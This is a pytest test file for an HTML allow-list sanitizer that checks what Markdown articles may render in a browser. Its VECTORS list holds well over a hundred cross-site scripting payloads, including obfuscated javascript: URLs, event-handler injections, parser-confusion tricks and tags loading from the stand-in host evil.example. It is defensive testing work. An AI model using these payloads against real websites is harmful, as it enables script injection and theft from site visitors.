"""What an article may become in a browser: an allow-list that fails closed."""

from __future__ import annotations

import re

import markdown
import pytest
from sorelegs.article.html_policy import check_html, clean
from support.html_tokens import harm, tags
from support.places import SECOND

SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java&#115;cript:alert(1)",
    "java&#x73;cript:alert(1)",
    "javascript&colon;alert(1)",
    "java\tscript:alert(1)",
    "&#1;javascript:alert(1)",
    "&Tab;javascript:alert(1)",
    "java&NewLine;script:alert(1)",
    "\u200bjavascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:x",
    "view-source:javascript:alert(1)",
]
AUTOLINKS = [f"<{scheme}>" for scheme in SCHEMES if "<" not in scheme]
ODD_NAMES = ("onclick", "ONCLICK", "style", "xlink:href", "formaction", "on\\click", "srcdoc", "http-equiv", "is")
ODD_VALUES = ("alert(1)", "'javascript:alert(1)'")
ODD_SPACES = ("\xa0", "\x0b", "\u2003", "\u2028", "\x1c", "\x85", "\u3000", "\ufeff")
"""Characters that Python counts as spaces and HTML does not, and one that neither does."""
OUTSIDE = [
    "http://evil.example/x.png",
    "HTTPS://evil.example/x.png",
    "//evil.example/x.png",
    "/\\evil.example/x.png",
    "\\\\evil.example\\x.png",
    "/\t/evil.example/x.png",
    "https:evil.example/x.png",
    "&#47;&#47;evil.example/x.png",
    "&sol;&sol;evil.example/x.png",
    "data:image/svg+xml,x",
    "blob:x",
]
VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<img """><script>alert(1)</script>">',
    "<img/src='x'/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=x><button>Go</button></form>",
    "<a href=x onclick=alert(1)>x</a>",
    '<a href="x"onclick="alert(1)">x</a>',
    '<a href="x" style="position:fixed;inset:0">x</a>',
    "<details open ontoggle=alert(1)>x</details>",
    "<div onmouseover\n=\nalert(1)>x</div>",
    "<div class='md-overlay'>x</div>",
    "<div id=__search>x</div>",
    "<p class='sl-error sl-refused'>x</p>",
    "<shoulder-check></shoulder-check>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<!---><img src=x onerror=alert(1)>-->",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE html [<!ENTITY x 'y'>]>",
    "<video src=//evil.example/x autoplay></video><audio src=x>",
    "<textarea autofocus onfocus=alert(1)>",
    "<img src=//evil.example/x.png>",
    "<img src='https://evil.example/x.png'>",
    "<img src='\\\\evil.example/x.png'>",
    "<img src='/\\evil.example/x.png' srcset='//evil.example/y 2x'>",
    "![x](https://evil.example/x.png)",
    "![x](//evil.example/x.png)",
    '[x](y "z"){ onclick="alert(1)" }',
    '## Title {: onclick="alert(1)" }',
    'Text\n{: style="position:fixed" onmouseover="alert(1)" }',
    "Text\n{: .md-dialog #__drawer }",
    '<div markdown="1" onclick="alert(1)">\n\ntext\n\n</div>',
    *(f"[x]({scheme})" for scheme in SCHEMES if " " not in scheme and "<" not in scheme),
    *(f"<a href='{scheme}'>x</a>" for scheme in SCHEMES),
    *(f"[x][y]\n\n[y]: {scheme}" for scheme in SCHEMES if "\t" not in scheme),
    *AUTOLINKS,
    *(f"<a {name}={value}>x</a>" for name in ODD_NAMES for value in ODD_VALUES),
    *(f'<a href{space}={space}"x onclick=alert(1) ">x</a>' for space in ODD_SPACES),
    *(f"<p title='x'{space}onclick='alert(1)'>x</p>" for space in ("/", "\x00", *ODD_SPACES)),
    *(f"![x]({address})" for address in OUTSIDE),
    *(f"<img src='{address}' alt='x'>" for address in OUTSIDE),
    *(f"![x][y]\n\n[y]: {address}" for address in OUTSIDE if "\t" not in address),
    "<a href='x' title='{{ cite(\"testSource\") }}' onclick=alert(1)>x</a>",
    "<a href={{ cite('testSource') }} onclick=alert(1)>x</a>",
    "![{{ evil('onerror=alert(1) x=') }}](x.png)",
    "[{{ cite('><script>alert(1)</script>') }}](x)",
    "{{ safety('<script>alert(1)</script>') }}",
    '{{ "<script>alert(1)</script>" }}',
    "{% raw %}<script>alert(1)</script>{% endraw %}",
    "<scr\x02ipt>alert(1)</script>",
    "<a href='java\x03script:alert(1)'>x</a>",
    "`<script>alert(1)</script>` <b title='`' onclick=alert(1)>`</b>",
    "```\n<script>\n```\n<script>alert(1)</script>",
    "    <script>alert(1)</script>",
    "- x\n\n        <script>alert(1)</script>\n\n<script>alert(2)</script>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    '!!! note "<script>alert(1)</script>"\n    <script>alert(1)</script>',
    '!!! md-dialog "<img src=x onerror=alert(1)>"\n    x',
    "term\n:   <svg onload=alert(1)>",
    "# <script>alert(1)</script>",
    "<h2 id=x onclick=alert(1)>x</h2>",
    "<p markdown=1 onclick=alert(1)>x</p>",
    '**x**{: href="javascript:alert(1)" src=//evil.example }',
    "``` {.html onclick=alert(1) style=x}\nx\n```",
    "<details><summary onclick=alert(1)>x</summary></details>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<plaintext>x",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex action=javascript:alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<portal src=x></portal>",
    "<applet code=x></applet>",
    "<a href=x target=_blank ping=//evil.example>x</a>",
    "<frameset onload=alert(1)><frame src=x></frameset>",
    "<!-- x -- ><script>alert(1)</script> -->",
    "<!-- <!-- --><script>alert(1)</script>",
    "<!<script>alert(1)</script>>",
    "</script onclick=alert(1)><script>alert(1)</script>",
    "</p onclick=alert(1)>",
    "<//script><script>alert(1)</script>",
    "<a href=x>x</a onclick=alert(1)>",
    "<p><p><p onclick=alert(1)></p>",
    "<br/onclick=alert(1)/>",
    '<p title="a\nb\nc" onclick\n=\n"alert(1)">x</p>',
    "<p a='>' onclick=alert(1)>x</p>",
    '<p a=">" onclick=alert(1)>x</p>',
    "&lt;script&gt;alert(1)&lt;/script&gt; <script>alert(1)</script>",
]
OURS = re.compile(r"<(?:p|span) class=\"sl-error\">|<details class=\"sl-sources\"[\s\S]*|<sup class=\"sl-cite\">")
"""What our own calls put into a page."""
RESERVED = re.compile(r"(?:^|\s)(?:md-|sl-|__)")


def _render(text: str) -> str:
    md = markdown.Markdown(
        extensions=[
            "attr_list",
            "tables",
            "def_list",
            "sane_lists",
            "admonition",
            "toc",
            "pymdownx.superfences",
            "sorelegs.markdown",
        ],
        extension_configs={"sorelegs.markdown": {"docs": str(SECOND / "docs")}},
    )
    return md.convert(text)


def _assert_harmless(html: str) -> None:
    html = html.replace('<p class="sl-error sl-refused">', "<p>")
    assert harm(html) == []
    for _, attributes in tags(re.sub(OURS, "<p>", html)):
        assert not RESERVED.search(attributes.get("class", "") + " " + attributes.get("id", "")), html


@pytest.mark.parametrize("vector", VECTORS)
def test_a_vector_is_refused_and_cleaned(vector: str) -> None:
    _assert_harmless(_render(vector))


def test_the_judge_sees_what_a_browser_would_run() -> None:
    assert harm("<p>5 < 6 <!-- <script> --> <a href='x.md#y' title='<script>'>x</a> <b>y</b></p>") == []
    assert harm('<a href\xa0=\xa0"x onclick=alert(1) ">x</a>') == ["<a onclick>"]
    assert harm("<p a='b'onclick=alert(1)>") == ["<p onclick>"]
    assert harm("<!--><script>") == harm("<!-- --!><script>") == harm("<script") == ["<script>"]
    assert harm("<a href=' \x01java\tscript:x'>") == ["<a href= \x01java\tscript:x>"]
    assert sum(bool(harm(vector)) for vector in VECTORS) >= 100


@pytest.mark.parametrize("vector", [v for v in VECTORS if v.startswith("<") and not v.startswith("<!--")])
def test_cleaning_leaves_nothing_to_refuse(vector: str) -> None:
    assert check_html(clean(vector)) == []
    _assert_harmless(clean(vector))


def test_there_are_enough_vectors() -> None:
    assert len(set(VECTORS)) >= 180


def test_what_markdown_makes_passes_unchanged() -> None:
    text = (SECOND / "docs/swim-or-rest/can-i-swim-with-a-sore-shoulder.md").read_text(encoding="utf-8")
    body = text.split("---\n", 2)[2]
    plain = markdown.markdown(re.sub(r"\{\{.*?\}\}", "", body), extensions=["tables", "attr_list", "toc"])
    assert check_html(plain) == []
    assert clean(plain) == plain


def test_the_page_says_what_was_taken_out() -> None:
    html = _render("Hello <script>alert(1)</script>")
    assert '<p class="sl-error sl-refused">The tag &lt;script&gt; is not allowed.</p>' in html
    assert "Hello alert(1)" in html
